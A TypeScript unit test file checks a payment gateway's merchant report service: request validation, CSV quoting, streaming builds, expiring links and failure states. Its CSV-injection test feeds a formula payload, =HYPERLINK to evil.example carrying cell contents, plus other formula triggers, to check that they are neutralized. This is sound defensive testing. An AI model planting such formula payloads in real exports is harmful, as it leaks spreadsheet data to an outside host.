/**
 * Reports (docs/merchant-guide.md#reports) over in-memory ports: the request's rules, the CSV as
 * RFC 4180 writes it, and a report's life: recorded pending and queued, built once from the
 * records as they stream, linked for 15 minutes when read, failed when it cannot be queued or
 * built. The DynamoDB stores, 50,000 rows and the files behind their links are tested in
 * test/integration/reports.test.ts, the whole flow over HTTP in test/e2e/merchant-tools.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { NotFound, Unavailable } from '../../shared/domain/errors.js';
import type { BalanceEntry } from '../../shared/domain/balances.js';
import { ReportService, type ReportLinks, type ReportRange, type ReportRecords, type ReportStore, type ReportWriter } from '../../shared/domain/report-service.js';
import { createReportRequestSchema, csvField, entryRow, reportHeader, transactionRow, type Report } from '../../shared/domain/reports.js';
import type { Transaction } from '../../shared/domain/transactions.js';
import { refusal } from '../support/memory/gateway.js';

const NOW = new Date('2026-06-01T12:00:00.000Z');
const MERCHANT = 'merchant-1';

const request = (fields: Record<string, unknown> = {}) =>
  createReportRequestSchema.safeParse({ type: 'transactions', createdFrom: '2026-05-01T00:00:00Z', createdTo: '2026-06-01T00:00:00Z', ...fields });

const problemOf = (fields: Record<string, unknown>) => {
  const parsed = request(fields);
  if (parsed.success) throw new Error('the request was accepted');
  return parsed.error.issues.map(({ path, message }) => [path.join('.'), message]);
};

describe('a report request', () => {
  it('takes a range that runs forwards, of at most one year, a type and optionally a currency', () => {
    expect(request().success).toBe(true);
    expect(request({ type: 'balance_entries', currency: 'INR', createdFrom: '2025-06-01T00:00:00Z', createdTo: '2026-06-01T00:00:00Z' }).success).toBe(true);
  });

  it.each([
    ['a range that ends where it starts', { createdTo: '2026-05-01T00:00:00Z' }, 'createdTo', 'createdTo must be after createdFrom'],
    ['a range that runs backwards', { createdFrom: '2026-06-02T00:00:00Z' }, 'createdTo', 'createdTo must be after createdFrom'],
    ['over a year', { createdFrom: '2025-05-31T23:59:59Z' }, 'createdTo', 'A report covers at most one year: createdTo must be at most one year after createdFrom'],
    ['no start', { createdFrom: undefined }, 'createdFrom', undefined],
    ['a start that is no time', { createdFrom: '2026-05-01' }, 'createdFrom', undefined],
    ['another type', { type: 'invoices' }, 'type', undefined],
    ['a currency the books do not hold', { currency: 'EUR' }, 'currency', undefined],
    ['another field', { format: 'xlsx' }, '', undefined],
  ])('refuses %s, naming the field', (_name, fields, field, message) => {
    const problems = problemOf(fields);
    expect(problems.map(([path]) => path)).toContain(field);
    if (message) expect(problems).toContainEqual([field, message]);
  });
});

describe('the file', () => {
  it('quotes a field with a comma, a quote or a line break, doubling quotes, and ends each record with CRLF', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(entryRow(entry({ availableChange: '-12.50', reason: 'x,y' }))).toMatch(/,-12\.50,.*,"x,y"\r\n$/);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', '"\'\rcmd"'],
    ['cust-42', 'cust-42'],
    ['a=b', 'a=b'],
  ])('keeps merchant- and customer-given text %j from being run as a formula: %s', (text, cell) => {
    const row = transactionRow(transaction(1, { customerId: text, orderId: text }));
    // orderId and customerId are the 7th and 8th columns.
    expect(row.startsWith(`00000000-0000-4000-8000-000000000001,2026-05-01T00:01:00.000Z,2026-05-01T00:01:00.000Z,deposit,confirmed,,${cell},${cell},TRY,1.10,`)).toBe(true);
    expect(entryRow(entry({ reason: text })).endsWith(`,${cell}\r\n`)).toBe(true);
  });

  it("leaves the gateway's own decimals numbers, negative ones too, and neutralizes anything else in an amount's column", () => {
    expect(entryRow(entry({ availableChange: '-10.00', availableAfter: '90.00' }))).toBe(
      `00000000-0000-4000-8000-00000000000e,2026-05-01T00:00:00.000Z,00000000-0000-4000-8000-000000000001,payout_reserve,TRY,-10.00,90.00,10.00,\r\n`,
    );
    expect(transactionRow(transaction(1, { amount: '-5', fees: { processing: '=1+1', technical: null } }))).toContain(',TRY,-5,\'=1+1,,');
  });

  it('has a header naming the columns of each type', () => {
    expect(reportHeader('transactions')).toBe(
      'id,createdAt,updatedAt,type,status,invoiceId,orderId,customerId,currency,amount,processingFee,technicalFee,network,transactionHash,usd,eur\r\n',
    );
    expect(reportHeader('balance_entries')).toBe('id,createdAt,transactionId,type,currency,amount,availableAfter,reservedAfter,reason\r\n');
  });
});

class MemoryReports implements ReportStore {
  readonly reports = new Map<string, Report>();
  async create(report: Report) {
    this.reports.set(report.id, structuredClone(report));
  }
  async get(id: string) {
    const report = this.reports.get(id);
    return report && structuredClone(report);
  }
  async finish(id: string, outcome: Pick<Report, 'status' | 'rows' | 'fileKey' | 'updatedAt'>) {
    const report = this.reports.get(id);
    if (report?.status !== 'pending') return false;
    Object.assign(report, outcome);
    return true;
  }
  async newestOf(merchantId: string, limit: number) {
    return [...this.reports.values()]
      .filter((report) => report.merchantId === merchantId)
      .sort((a, b) => b.createdAt.localeCompare(a.createdAt))
      .slice(0, limit)
      .map((report) => structuredClone(report));
  }
}

/** Files kept as the chunks they were written in, to see that the builder writes as it reads. */
class MemoryFiles implements ReportWriter, ReportLinks {
  readonly files = new Map<string, string[]>();
  failing = false;
  async write(key: string, chunks: AsyncIterable<string>) {
    const written: string[] = [];
    for await (const chunk of chunks) {
      if (this.failing) throw new Error('The store is down');
      written.push(chunk);
    }
    this.files.set(key, written);
  }
  async link(key: string, expiresAt: Date) {
    return `https://files.example/${key}?until=${expiresAt.toISOString()}`;
  }
}

function entry(fields: Partial<BalanceEntry> = {}): BalanceEntry {
  return {
    id: '00000000-0000-4000-8000-00000000000e',
    merchantId: MERCHANT,
    transactionId: '00000000-0000-4000-8000-000000000001',
    type: 'payout_reserve',
    currency: 'TRY',
    availableChange: '-10.00',
    reservedChange: '10.00',
    availableAfter: '90.00',
    reservedAfter: '10.00',
    sequence: 2,
    createdAt: '2026-05-01T00:00:00.000Z',
    ...fields,
  };
}

function transaction(n: number, fields: Partial<Transaction> = {}): Transaction {
  const at = new Date(Date.parse('2026-05-01T00:00:00Z') + n * 60_000).toISOString();
  return {
    id: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
    merchantId: MERCHANT,
    invoiceId: null,
    type: 'deposit',
    status: 'confirmed',
    amount: `${n}.10`,
    currency: 'TRY',
    network: null,
    transactionHash: null,
    customerId: `customer, "${n}"`,
    orderId: null,
    applicationId: null,
    createdAt: at,
    updatedAt: at,
    fees: { processing: '0.50', technical: null },
    usd: '1.00',
    eur: '0.90',
    ...fields,
  } as Transaction;
}

function setup(records: { transactions?: Transaction[]; entries?: BalanceEntry[] } = {}, readTransactions?: ReportRecords['transactions']) {
  const reports = new MemoryReports();
  const files = new MemoryFiles();
  const queued: string[] = [];
  const queue = {
    down: false,
    async send(id: string) {
      if (queue.down) throw new Error('SQS is down');
      queued.push(id);
    },
  };
  const inRange = <R extends { merchantId: string; createdAt: string; currency: string }>(all: R[], range: ReportRange) =>
    all.filter((r) => r.merchantId === range.merchantId && r.createdAt >= range.createdFrom && r.createdAt <= range.createdTo && (!range.currency || r.currency === range.currency));
  async function* each<R>(items: R[]) {
    yield* items;
  }
  let ids = 0;
  const service = new ReportService({
    reports,
    writer: files,
    links: files,
    records: { transactions: readTransactions ?? ((range) => each(inRange(records.transactions ?? [], range))), entries: (range) => each(inRange(records.entries ?? [], range)) },
    queue,
    clock: () => NOW,
    newId: () => `10000000-0000-4000-8000-${String(++ids).padStart(12, '0')}`,
  });
  const create = (fields: Record<string, unknown> = {}) => service.create(MERCHANT, request(fields).data!);
  return { reports, files, queued, queue, service, create };
}

describe('a report', () => {
  it('is recorded pending and queued; the builder writes a row per record of the range as it reads them, and the link lasts 15 minutes', async () => {
    const inside = [1, 2, 3].map((n) => transaction(n));
    const { files, queued, service, create } = setup({ transactions: [...inside, transaction(4, { merchantId: 'merchant-2' }), transaction(5, { currency: 'INR' })] });
    const { id, status } = await create({ currency: 'TRY' });
    expect(status).toBe('pending');
    expect(queued).toEqual([id]);
    expect(await service.view(MERCHANT, id)).toEqual({ id, type: 'transactions', status: 'pending', rows: null, url: null, expiresAt: null });

    expect(await service.build(id, false)).toBe('ready');
    const written = files.files.get(`${MERCHANT}/${id}.csv`)!;
    expect(written).toHaveLength(4);
    expect(written[0]).toBe(reportHeader('transactions'));
    expect(written[1]).toBe(`${inside[0]!.id},2026-05-01T00:01:00.000Z,2026-05-01T00:01:00.000Z,deposit,confirmed,,,"customer, ""1""",TRY,1.10,0.50,,,,1.00,0.90\r\n`);
    const expiresAt = new Date(NOW.getTime() + 15 * 60_000).toISOString();
    expect(await service.view(MERCHANT, id)).toEqual({ id, type: 'transactions', status: 'ready', rows: 3, url: `https://files.example/${MERCHANT}/${id}.csv?until=${expiresAt}`, expiresAt });
  });

  it('is written row by row as the records are read, never gathered first', async () => {
    const events: string[] = [];
    const { files, service, create } = setup({}, async function* () {
      for (const n of [1, 2, 3]) {
        events.push(`read ${n}`);
        yield transaction(n);
      }
    });
    const write = files.write.bind(files);
    files.write = async (key, chunks) =>
      write(
        key,
        (async function* () {
          for await (const chunk of chunks) {
            events.push(chunk.startsWith('id,') ? 'wrote the header' : `wrote ${chunk.slice(34, 36)}`);
            yield chunk;
          }
        })(),
      );
    const { id } = await create();
    await service.build(id, false);
    expect(events).toEqual(['wrote the header', 'read 1', 'wrote 01', 'read 2', 'wrote 02', 'read 3', 'wrote 03']);
  });

  it('is built once: a message handled again leaves it as it is', async () => {
    const { files, service, create } = setup({ transactions: [transaction(1)] });
    const { id } = await create();
    await service.build(id, false);
    files.files.clear();
    expect(await service.build(id, false)).toBe('ready');
    expect(files.files.size).toBe(0);
    expect(await service.build('10000000-0000-4000-8000-999999999999', false)).toBe('gone');
  });

  it("is another merchant's to nobody: a 404, as an unknown id", async () => {
    const { service, create } = setup();
    const { id } = await create();
    expect(await refusal(service.view('merchant-2', id))).toEqual(new NotFound('Report'));
    expect(await refusal(service.view(MERCHANT, '10000000-0000-4000-8000-999999999999'))).toEqual(new NotFound('Report'));
  });

  it('refuses a range that ends in the future, naming createdTo, and records nothing', async () => {
    const { reports, queued, create } = setup();
    const error = await refusal(create({ createdTo: '2026-06-01T12:00:01Z' }));
    expect(error).toMatchObject({ problems: [{ field: 'createdTo', message: 'createdTo must not be in the future' }] });
    expect(reports.reports.size).toBe(0);
    expect(queued).toEqual([]);
  });

  it('is failed when it cannot be queued, rather than pending for ever', async () => {
    const { reports, queue, create } = setup();
    queue.down = true;
    expect(await refusal(create())).toBeInstanceOf(Unavailable);
    expect([...reports.reports.values()].map(({ status }) => status)).toEqual(['failed']);
  });

  it('stays pending for the queue to try again when building fails, and is failed at the last attempt', async () => {
    const { files, service, create } = setup({ transactions: [transaction(1)] });
    const { id } = await create();
    files.failing = true;
    await expect(service.build(id, false)).rejects.toThrow('The store is down');
    expect((await service.view(MERCHANT, id)).status).toBe('pending');
    await expect(service.build(id, true)).rejects.toThrow('The store is down');
    expect(await service.view(MERCHANT, id)).toMatchObject({ status: 'failed', rows: null, url: null });
  });
});
